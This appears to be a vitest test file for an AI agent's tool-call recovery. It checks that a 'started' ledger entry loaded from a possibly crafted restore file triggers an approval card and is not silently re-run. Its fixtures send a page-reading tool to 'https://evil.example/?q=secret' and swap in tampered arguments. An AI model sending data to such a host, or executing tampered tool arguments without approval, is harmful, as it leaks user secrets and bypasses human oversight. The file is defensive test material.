import { describe, expect, it } from 'vitest';
import { ledgerId } from './records/index.ts';
import { STARTED_ELSEWHERE } from './restored-start.ts';
import { UNKNOWN_OUTCOME_OPTIONS } from './settle-open-calls.ts';
import { crashableStorage } from './testing/crashable-storage.ts';
import { harness, pending, tab } from './testing/harness.ts';
import { scriptedTool } from './testing/test-tools.ts';

/**
 * A call whose tab died after its side effect and before its result was stored
 * (the ledger says `started`), in a tool that runs unasked: a read, or an MCP
 * tool a trusted server marks read-only. `restored` makes the entry look as a
 * restore by an earlier version wrote it (before src/inert/ closed such calls).
 */
async function startedThenLeft(options: { restored: boolean; safeToRetry?: boolean }) {
  const read = scriptedTool('read_page', async (run) => `page, read ${run} time(s)`, { safeToRetry: options.safeToRetry ?? true });
  const h = harness([{ calls: [{ name: 'read_page', args: { text: 'https://evil.example/?q=secret' }, id: 'call_1' }] }, { text: 'Read it.' }], { tools: [read] });
  const tabAStorage = crashableStorage(h.storage, (method) => method === 'finishExecution');
  const tabA = h.openTab('tab-A', { storage: tabAStorage });
  const id = await tabA.createConversation();
  await tabA.send(id, 'read it').catch(() => undefined);
  await tabA.whenIdle();
  expect(read.runs).toHaveLength(1);
  const entry = await h.storage.getLedgerEntry(ledgerId(id, 'call_1'));
  expect(entry).toMatchObject({ status: 'started' });
  // What a crafted file would carry: the ledger's arguments, not necessarily the model's.
  if (options.restored) await h.storage.putLedgerEntry({ ...entry!, args: { text: 'https://evil.example/?q=ledger' }, restored: true });
  const tabB = h.openTab('tab-B');
  await tabB.recover(id);
  await tabB.whenIdle();
  return { h, id, read, tabB };
}

describe('point 1: a restored started ledger entry asks with a fresh card instead of running', () => {
  it('a started read left by a tab here runs again unasked, as before (the control)', async () => {
    const { h, id, read } = await startedThenLeft({ restored: false });
    expect(read.runs).toHaveLength(2);
    expect(await pending(h, id)).toEqual([]);
  });

  it('a restored one is not run: a gate card asks about the ledger’s arguments, even for a tool whose gate never asks', async () => {
    const { h, id, read } = await startedThenLeft({ restored: true });

    expect(read.runs).toHaveLength(1);
    expect(h.model.requests).toHaveLength(1);
    const [card, ...others] = await pending(h, id);
    expect(others).toEqual([]);
    expect(card).toMatchObject({ origin: 'gate', toolCallId: 'call_1', title: 'Run read_page?', payload: { text: 'https://evil.example/?q=ledger' } });
    expect(card!.description.startsWith(STARTED_ELSEWHERE)).toBe(true);
  });

  it('an approval here runs it once with the ledger’s arguments, and the entry it writes is this browser’s own', async () => {
    const { h, id, read, tabB } = await startedThenLeft({ restored: true });
    const [card] = await pending(h, id);

    await tabB.decide(card!.id, { type: 'approve' }, tab('tab-B'));
    await tabB.whenIdle();

    expect(read.runs).toEqual([{ text: 'https://evil.example/?q=secret' }, { text: 'https://evil.example/?q=ledger' }]);
    const entry = await h.storage.getLedgerEntry(ledgerId(id, 'call_1'));
    expect(entry).toMatchObject({ status: 'succeeded', attempts: 2 });
    expect(entry?.restored).toBeUndefined();
    expect(h.model.requests).toHaveLength(2);
  });

  it('a restored started call that is not safe to retry asks "Did it finish?", as before', async () => {
    const { h, id, read } = await startedThenLeft({ restored: true, safeToRetry: false });
    expect(read.runs).toHaveLength(1);
    const [card] = await pending(h, id);
    expect(card).toMatchObject({ origin: 'unknown_outcome', options: [...UNKNOWN_OUTCOME_OPTIONS] });
  });
});
